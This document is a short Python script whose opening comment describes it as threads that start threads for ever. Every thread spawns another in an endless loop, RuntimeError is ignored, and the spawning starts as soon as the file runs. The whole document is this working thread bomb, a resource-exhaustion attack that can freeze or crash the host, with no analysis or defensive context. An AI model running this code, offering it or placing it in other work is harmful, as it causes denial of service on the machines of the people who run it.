# Threads that start threads, as many as there may be, for ever.
import threading


def bomb():
    while True:
        try:
            threading.Thread(target=bomb).start()
        except RuntimeError:
            pass


bomb()
